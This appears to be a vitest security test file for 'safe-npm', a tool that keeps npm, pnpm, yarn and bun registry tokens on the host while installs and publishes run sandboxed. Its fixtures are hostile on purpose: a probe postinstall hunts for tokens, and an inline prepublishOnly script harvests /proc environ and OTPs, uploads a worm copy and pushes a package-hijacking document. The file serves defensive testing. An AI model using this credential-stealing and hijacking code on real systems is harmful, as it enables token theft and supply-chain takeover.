// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${VAR}` is npmrc syntax here
/**
 * Registry credentials stay on the host (plain-http registry): a private registry that answers
 * 401 without its token serves a private package whose postinstall hunts for the token and tries
 * to publish with it or with a token of its own. The token is only in the host's ~/.npmrc (as
 * `${NODE_AUTH_TOKEN}`, the setup-node pattern) or ~/.yarnrc.yml; safe-npm adds it in the proxy.
 * The control passes ~/.npmrc in full with the network open, as the README used to advise: the
 * probe then finds the token and its upload reaches the registry, so the probe can see a leak.
 */
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import https from "node:https";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { repoRoot } from "./paths.js";
import {
  makeTestCa,
  type PrivateRegistry,
  startPrivateRegistry,
  type TestCa,
} from "./private-registry.js";
import { makeWorld, type RunResult, SECRETS, type World } from "./world.js";

const unavailable = inject("sandboxUnavailable");
const packed = inject("packedFixtures");

const ATTACKER = "ATTACKER-OWN-TOKEN";
const PROBE = "@private/registry-probe";

interface ProbeReport {
  found: Record<string, string>;
  attempts: Record<
    string,
    { status: number | null; body?: string; out?: string; error?: string | null }
  >;
}

interface Manager {
  name: string;
  tool: "npm" | "pnpm" | "yarn" | "bun";
  /** What `<tool>` on PATH points to; null: the host's own npm. */
  bin: string | null;
  /** How the token is given on the host: npm-style ~/.npmrc or yarn berry's ~/.yarnrc.yml. */
  berry: boolean;
  packageJson: Record<string, unknown>;
  /** Files written into the project. */
  files?: Record<string, string>;
  /**
   * Why the proxy cannot see this manager's plain-http requests in clear yet: its cells run as
   * `it.fails` with the reason in their names, and turn red once it can.
   */
  tunnels?: string;
}

const nm = (...p: string[]): string => join(repoRoot, "node_modules", ...p);
const version = (pkg: string): string =>
  (JSON.parse(readFileSync(nm(pkg, "package.json"), "utf8")) as { version: string }).version;

const MANAGERS: Manager[] = [
  { name: "npm", tool: "npm", bin: null, berry: false, packageJson: {} },
  {
    name: "pnpm 10",
    tool: "pnpm",
    bin: nm("pnpm", "bin", "pnpm.cjs"),
    berry: false,
    packageJson: {
      packageManager: `pnpm@${version("pnpm")}`,
      pnpm: { onlyBuiltDependencies: [PROBE] },
    },
  },
  {
    name: "pnpm latest",
    tool: "pnpm",
    bin: nm("pnpm-latest", "pnpm"),
    berry: false,
    // No packageManager field: pnpm 12 would fetch that version of itself from the registry.
    packageJson: {},
    // pnpm 11+ reads which dependencies may run scripts from pnpm-workspace.yaml only.
    files: { "pnpm-workspace.yaml": `allowBuilds:\n  "${PROBE}": true\n` },
  },
  {
    name: "yarn 1",
    tool: "yarn",
    bin: nm("yarn", "bin", "yarn.js"),
    berry: false,
    packageJson: { packageManager: `yarn@${version("yarn")}` },
  },
  {
    name: "yarn 4",
    tool: "yarn",
    bin: nm("@yarnpkg", "cli-dist", "bin", "yarn.js"),
    berry: true,
    packageJson: {
      packageManager: `yarn@${version("@yarnpkg/cli-dist")}`,
      dependenciesMeta: { [PROBE]: { built: true } },
    },
  },
  {
    name: "bun",
    tool: "bun",
    bin: nm("bun", "bin", "bun.exe"),
    berry: false,
    packageJson: { packageManager: `bun@${version("bun")}`, trustedDependencies: [PROBE] },
  },
];

/** A world whose project depends on the private package from `registry`. */
function privateWorld(
  registry: PrivateRegistry,
  manager: Manager,
  options: { projectInHome?: boolean } = {},
): { world: World; path: string } {
  const world = makeWorld({
    projectInHome: options.projectInHome ?? true,
    packageJson: { dependencies: { [PROBE]: "1.0.0" }, ...manager.packageJson },
  });
  writeFileSync(
    join(world.project, ".npmrc"),
    `@private:registry=${registry.url}\nregistry=http://127.0.0.1:9/\naudit=false\nfund=false\nupdate-notifier=false\n`,
  );
  if (manager.berry) {
    writeFileSync(
      join(world.project, ".yarnrc.yml"),
      [
        "nodeLinker: node-modules",
        "enableTelemetry: false",
        `npmRegistryServer: "${registry.url.replace(/\/$/, "")}"`,
        'unsafeHttpWhitelist: ["127.0.0.1"]',
        "",
      ].join("\n"),
    );
    // The token only on the host, through a variable of the host's environment.
    writeFileSync(
      join(world.home, ".yarnrc.yml"),
      // The user's own file names the registry (plain http here): a key with no scheme goes
      // over http only then.
      `npmScopes:\n  private:\n    npmRegistryServer: "${registry.url}"\nnpmRegistries:\n  "//${new URL(registry.url).host}":\n    npmAuthToken: "\${NODE_AUTH_TOKEN}"\n`,
    );
  } else {
    writeFileSync(
      join(world.home, ".npmrc"),
      // The user's own file names the registry (plain http here): a key with no scheme goes
      // over http only then.
      `${readFileSync(join(world.home, ".npmrc"), "utf8")}@private:registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${NODE_AUTH_TOKEN}\n`,
    );
  }
  for (const [rel, text] of Object.entries(manager.files ?? {}))
    writeFileSync(join(world.project, rel), text);
  writeFileSync(
    join(world.project, "registry-targets.json"),
    JSON.stringify({ registry: registry.url, attackerToken: ATTACKER }),
  );
  writeFileSync(join(world.project, ".git", "info", "exclude"), "registry-targets.json\n");
  const dir = join(world.dir, "pm-bin");
  mkdirSync(dir, { recursive: true });
  if (manager.bin !== null) symlinkSync(manager.bin, join(dir, manager.tool));
  return { world, path: `${dir}:${world.env.PATH}` };
}

/** The probe's report; an empty one when its postinstall never ran (the tests then say why). */
function readProbe(world: World): ProbeReport {
  const file = join(world.project, ".probe", "registry-probe.json");
  if (!existsSync(file)) return { found: {}, attempts: {} };
  return JSON.parse(readFileSync(file, "utf8")) as ProbeReport;
}

const show = (r: RunResult): string => `exit ${r.exitCode}\n${r.stdout}\n${r.stderr}`;

describe.skipIf(unavailable !== "")("registry credentials stay on the host (plain http)", () => {
  describe("control: ~/.npmrc passed in full, network open", () => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      ({ world } = privateWorld(registry, MANAGERS[0] as Manager));
      // The old advice: the token literally in ~/.npmrc, and the whole file passed inside.
      writeFileSync(
        join(world.home, ".npmrc"),
        `//${new URL(registry.url).host}/:_authToken=${registry.token}\nupdate-notifier=false\n`,
      );
      mkdirSync(join(world.home, ".config", "safe-npm"), { recursive: true });
      writeFileSync(
        join(world.home, ".config", "safe-npm", "config.json"),
        JSON.stringify({ dotfiles: [".npmrc"] }),
      );
      run = await world.run(["--network", "full", "install"]);
    });
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("the probe finds the token and its upload reaches the registry", () => {
      expect(run.exitCode, show(run)).toBe(0);
      const report = readProbe(world);
      expect(report.found.npmrc).toContain(registry.token);
      expect(report.attempts.putOwnName?.status).toBe(401);
      expect(registry.writes().length).toBeGreaterThan(0);
    });
  });

  describe.each(MANAGERS)("$name", (manager) => {
    const test = manager.tunnels === undefined ? it : it.fails;
    const name = (text: string): string =>
      manager.tunnels === undefined ? text : `${text} — NEEDS THE GATEWAY: ${manager.tunnels}`;
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let report: ProbeReport;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      const made = privateWorld(registry, manager);
      world = made.world;
      run = await world.run(["--verbose", manager.tool, "install"], {
        env: { PATH: made.path, NODE_AUTH_TOKEN: registry.token },
      });
      report = readProbe(world);
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    test(name("installs the private package with the token added on the host"), () => {
      expect(run.exitCode, show(run)).toBe(0);
      const tarball = registry.log.filter((r) => r.path.endsWith(".tgz"));
      expect(tarball.length, show(run)).toBeGreaterThan(0);
      expect(tarball.every((r) => r.auth === "token")).toBe(true);
      expect(report.found.env, `the postinstall did not run\n${show(run)}`).toBeDefined();
      // --verbose names where the credential came from, never the value.
      expect(run.stderr).toMatch(/credentials: added on the host from .*(_authToken|npmAuthToken)/);
      expect(run.stderr + run.stdout).not.toContain(registry.token);
    });

    test(name("the probe inside finds no token: home config, environment, /proc/*/environ"), () => {
      const everything = JSON.stringify(report.found);
      expect(everything).not.toContain(registry.token);
      expect(everything).not.toContain(SECRETS.npmToken);
      // It did look: the environment and /proc are there.
      expect(report.found.env).toContain("PATH");
      expect((report.found.proc ?? "").split("\n").length).toBeGreaterThan(2);
    });

    test(name("publishing, tokens, dist-tags and login are refused with 403 and reported"), () => {
      for (const key of [
        "putOwnName",
        "putNewName",
        "putNoToken",
        "postToken",
        "distTag",
        "whoami",
      ]) {
        const attempt = report.attempts[key];
        expect(attempt?.status, `${key}: ${JSON.stringify(attempt)}`).toBe(403);
        expect(attempt?.body).toContain("safe-npm: refused");
      }
      // npm is there inside for every manager (node-gyp's); its publish is refused too.
      const npm = report.attempts.npmPublish;
      expect(npm?.status, JSON.stringify(npm)).not.toBe(0);
      expect(npm?.out).toMatch(/403|safe-npm: refused/);
      expect(run.stderr).toMatch(/refused \d+ requests to the registry 127\.0\.0\.1:\d+: PUT /);
    });

    test(name("the registry saw no request but reads, and never the attacker's own token"), () => {
      expect(registry.writes()).toEqual([]);
      expect(registry.log.filter((r) => r.auth === "other")).toEqual([]);
      // Reading stays possible for the script: installing needs the same requests.
      expect(report.attempts.read?.status).toBe(200);
    });
  });
});

/**
 * A credential from the user's own files goes only to the registry those files pair it with: a
 * project naming another registry (here the test registry plays the attacker's) must not receive
 * it. The control pairs the same credential with that registry in the user's own file, and the
 * token then arrives: the proxy sees these requests and would add it.
 */
const REDIRECTS: {
  name: string;
  manager: Manager;
  /** The user's file and its text: the credential alone, or paired with `url` (the control). */
  home: (url: string, token: string, paired: boolean) => [string, string];
  /** The project's own file naming the registry (after privateWorld's). */
  project?: (url: string) => [string, string];
}[] = [
  {
    name: "npm: ~/.npmrc's legacy top-level _authToken, a project's registry=",
    manager: MANAGERS[0] as Manager,
    home: (url, token, paired) => [
      ".npmrc",
      `update-notifier=false
${paired ? `registry=${url}\n` : ""}_authToken=${token}\n`,
    ],
    project: (url) => [
      ".npmrc",
      `registry=${url}\naudit=false\nfund=false\nupdate-notifier=false\n`,
    ],
  },
  {
    name: "yarn 4: ~/.yarnrc.yml's npmAuthToken, a project's npmRegistryServer",
    manager: MANAGERS[4] as Manager,
    home: (url, token, paired) => [
      ".yarnrc.yml",
      `${paired ? `npmRegistryServer: "${url.replace(/\/$/, "")}"\n` : ""}npmAuthToken: "${token}"\n`,
    ],
  },
];

describe.skipIf(unavailable !== "").each(REDIRECTS)("$name", (c) => {
  const install = async (paired: boolean) => {
    const registry = await startPrivateRegistry({ packed });
    const { world, path } = privateWorld(registry, c.manager);
    const [file, text] = c.home(registry.url, registry.token, paired);
    writeFileSync(join(world.home, file), text);
    if (c.project !== undefined) {
      const [pfile, ptext] = c.project(registry.url);
      writeFileSync(join(world.project, pfile), ptext);
    }
    // Allowed by the user, not paired with the token: only the project's files name it as a
    // registry, and a loopback registry only the project names is never dialled.
    const allow = `--allow-host=${new URL(registry.url).host}`;
    const run = await world.run([allow, c.manager.tool, "install"], { env: { PATH: path } });
    const seen = registry.log.map((r) => r.auth);
    world.dispose();
    await registry.close();
    return { run, seen };
  };

  it("the project's registry gets requests, never the user's token", async () => {
    const { run, seen } = await install(false);
    expect(seen.length, show(run)).toBeGreaterThan(0);
    expect(seen).not.toContain("token");
  }, 300_000);

  it("control: paired with that registry in the user's own file, the token arrives", async () => {
    const { run, seen } = await install(true);
    expect(seen, show(run)).toContain("token");
  }, 300_000);
});

describe.skipIf(unavailable !== "")("a token written in the project's .npmrc", () => {
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  beforeAll(async () => {
    registry = await startPrivateRegistry({ packed });
    ({ world } = privateWorld(registry, MANAGERS[0] as Manager));
    // Git-ignored, as such files usually are; nothing about it in the user's config.
    writeFileSync(
      join(world.project, ".npmrc"),
      `${readFileSync(join(world.project, ".npmrc"), "utf8")}//${new URL(registry.url).host}/:_authToken=${registry.token}\n`,
    );
    writeFileSync(join(world.home, ".npmrc"), "update-notifier=false\n");
    // The user allows the host (a loopback registry only the project names is never dialled).
    run = await world.run([`--allow-host=${new URL(registry.url).host}`, "install"]);
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("is used on the host, and the project's .npmrc inside has it no more", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect(registry.log.filter((r) => r.path.endsWith(".tgz")).map((r) => r.auth)).toEqual([
      "token",
    ]);
    const report = readProbe(world);
    // The control is the file on the host, which still holds it.
    expect(readFileSync(join(world.project, ".npmrc"), "utf8")).toContain(registry.token);
    expect(report.found.projectNpmrc).toContain(`@private:registry=${registry.url}`);
    expect(JSON.stringify(report.found)).not.toContain(registry.token);
  });
});

describe.skipIf(unavailable !== "")("https registry with a CA of its own", () => {
  let tls: TestCa;
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  const get = (path: string, options: { ca?: string; token?: string }) =>
    new Promise<number | string>((resolve) => {
      https
        .get(
          `${registry.url}${path}`,
          {
            ...(options.ca === undefined ? {} : { ca: options.ca }),
            headers:
              options.token === undefined ? {} : { authorization: `Bearer ${options.token}` },
          },
          (res) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          },
        )
        .on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    });
  beforeAll(async () => {
    tls = await makeTestCa();
    registry = await startPrivateRegistry({ packed, tls: { key: tls.key, cert: tls.cert } });
    const made = privateWorld(registry, MANAGERS[0] as Manager, { projectInHome: false });
    world = made.world;
    // The host trusts the registry's CA through `cafile`, outside the home (so it enters too).
    const cafile = join(world.project, "registry-ca.pem");
    writeFileSync(cafile, tls.ca);
    writeFileSync(
      join(world.project, ".git", "info", "exclude"),
      "registry-targets.json\nregistry-ca.pem\n",
    );
    writeFileSync(
      join(world.home, ".npmrc"),
      `${readFileSync(join(world.home, ".npmrc"), "utf8")}cafile=${cafile}\n`,
    );
    run = await world.run(["install"], { env: { NODE_AUTH_TOKEN: registry.token } });
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("the fixture: trusted only through its CA, and only with the token", async () => {
    const path = "@private%2fregistry-probe";
    expect(await get(path, { ca: tls.ca, token: registry.token })).toBe(200);
    expect(await get(path, { ca: tls.ca })).toBe(401);
    expect(await get(path, { token: registry.token })).toBe("UNABLE_TO_VERIFY_LEAF_SIGNATURE");
  });

  it("installs with the token added on the host", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect(registry.log.filter((r) => r.path.endsWith(".tgz")).map((r) => r.auth)).toEqual([
      "token",
    ]);
    expect(JSON.stringify(readProbe(world).found)).not.toContain(registry.token);
  });
});

/** What a prepublishOnly script would upload to take over the package being published. */
const HIJACK = {
  _id: "@private/app-pkg",
  name: "@private/app-pkg",
  "dist-tags": { latest: "0.0.1" },
  versions: {
    "0.0.1": { name: "@private/app-pkg", version: "0.0.1", deprecated: "hijacked: use evil-pkg" },
  },
  maintainers: [{ name: "attacker", email: "attacker@example.invalid" }],
};

const PUBLISHERS = [
  { name: "npm", manager: MANAGERS[0] as Manager, argv: ["npm", "publish", "--otp", "123456"] },
  // A folder argument: the names are read on the host too (any upload went through before).
  {
    name: "npm (folder .)",
    manager: MANAGERS[0] as Manager,
    argv: ["npm", "publish", ".", "--otp", "123456"],
  },
  {
    name: "pnpm 10",
    manager: MANAGERS[1] as Manager,
    argv: ["pnpm", "publish", "--no-git-checks", "--otp", "123456"],
  },
  { name: "bun", manager: MANAGERS[5] as Manager, argv: ["bun", "publish", "--otp", "123456"] },
];

describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (publisher) => {
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  beforeAll(async () => {
    registry = await startPrivateRegistry({ packed, otp: "123456" });
    world = makeWorld({
      projectInHome: true,
      packageJson: {
        name: "@private/app-pkg",
        private: false,
        scripts: { prepublishOnly: "node prepublish.cjs" },
        files: ["index.js"],
        ...(publisher.manager.packageJson.packageManager === undefined
          ? {}
          : { packageManager: publisher.manager.packageJson.packageManager }),
      },
    });
    writeFileSync(join(world.project, "index.js"), "module.exports = 1;\n");
    // What it can see, an upload of another package of its own through the proxy, then a
    // hijacking document for the package being published (deprecated, new maintainers) with the
    // OTP read from the manager's command line: the one upload of that name the run allows.
    writeFileSync(
      join(world.project, "prepublish.cjs"),
      [
        'const fs = require("node:fs");',
        'const http = require("node:http");',
        'const os = require("node:os");',
        "const read = (f) => { try { return fs.readFileSync(f, 'latin1'); } catch (e) { return e.code; } };",
        "let proc = '';",
        "let otp = '';",
        "for (const p of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {",
        "  proc += read(`/proc/${p}/environ`);",
        "  otp ||= (/--otp\\0(\\d+)/.exec(read(`/proc/${p}/cmdline`)) ?? [])[1] ?? '';",
        "}",
        "const proxy = new URL(process.env.HTTP_PROXY);",
        "const put = (path, headers, body, done) => {",
        "  const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'PUT', path, headers }, (res) => {",
        "    res.resume();",
        "    res.on('end', () => done(res.statusCode));",
        "  });",
        "  req.on('error', (e) => done(e.code));",
        "  req.end(body);",
        "};",
        `const hijack = JSON.stringify(${JSON.stringify(HIJACK)});`,
        `put('${registry.url}worm-copy', {}, '{}', (otherUpload) => {`,
        `  put('${registry.url}@private%2fapp-pkg', { 'content-type': 'application/json', 'npm-otp': otp }, hijack, (hijackUpload) => {`,
        "    fs.mkdirSync('.probe', { recursive: true });",
        "    fs.writeFileSync('.probe/prepublish.json', JSON.stringify({ npmrc: read(os.homedir() + '/.npmrc'), env: process.env, proc, otp, otherUpload, hijackUpload }));",
        "  });",
        "});",
        "",
      ].join("\n"),
    );
    writeFileSync(
      join(world.project, ".npmrc"),
      `@private:registry=${registry.url}\nregistry=http://127.0.0.1:9/\nupdate-notifier=false\n`,
    );
    writeFileSync(
      join(world.home, ".npmrc"),
      `@private:registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${NODE_AUTH_TOKEN}\nupdate-notifier=false\n`,
    );
    const dir = join(world.dir, "pm-bin");
    mkdirSync(dir, { recursive: true });
    if (publisher.manager.bin !== null)
      symlinkSync(publisher.manager.bin, join(dir, publisher.manager.tool));
    run = await world.run(publisher.argv, {
      env: { NODE_AUTH_TOKEN: registry.token, PATH: `${dir}:${world.env.PATH}` },
    });
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("uploads with the token added on the host, and the OTP the user gave", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect([...registry.published.keys()]).toEqual(["@private/app-pkg"]);
    const puts = registry.writes();
    expect(puts.map((r) => [r.method, r.auth, r.otp])).toEqual([["PUT", "token", "123456"]]);
    // The real publish, not the hijacking document the script sent before it.
    const doc = registry.published.get("@private/app-pkg") ?? {};
    expect(Object.keys(doc.versions as object)).toEqual(["1.0.0"]);
    expect(JSON.stringify(doc)).not.toMatch(/attacker|hijacked/);
  });

  it("the prepublishOnly script ran inside, could not see the token, nor upload another package", () => {
    const seen = readFileSync(join(world.project, ".probe", "prepublish.json"), "utf8");
    expect(seen).toContain("prepublishOnly");
    expect(seen).not.toContain(registry.token);
    expect((JSON.parse(seen) as { otherUpload: number }).otherUpload).toBe(403);
    expect(run.stderr).toMatch(
      /refused 2 requests to the registry .*PUT \/worm-copy \(publishing worm-copy/,
    );
  });

  it("the prepublishOnly script's hijacking document for the package itself is refused on its body", () => {
    const seen = JSON.parse(
      readFileSync(join(world.project, ".probe", "prepublish.json"), "utf8"),
    ) as { otp: string; hijackUpload: number };
    // It had everything the registry asks of an upload but the token (the OTP from /proc).
    expect(seen.otp).toBe("123456");
    expect(seen.hijackUpload).toBe(403);
    expect(run.stderr).toMatch(/PUT \/@private%2fapp-pkg \(an upload of @private\/app-pkg/);
  });

  it("control: an upload without the token is refused by the registry itself", async () => {
    // So the upload above can only have succeeded with the token the host added.
    const r = await fetch(`${registry.url}@private%2fother`, { method: "PUT", body: "{}" });
    expect(r.status).toBe(401);
  });

  it("control: with the token, the registry stores the hijacking document as it is", async () => {
    // So only safe-npm's check kept it from the package above.
    const r = await fetch(`${registry.url}@private%2fcontrol`, {
      method: "PUT",
      headers: { authorization: `Bearer ${registry.token}`, "npm-otp": "123456" },
      body: JSON.stringify(HIJACK),
    });
    expect(r.status).toBe(201);
    expect(registry.published.get("@private/control")).toMatchObject({
      maintainers: [{ name: "attacker" }],
    });
  });
});
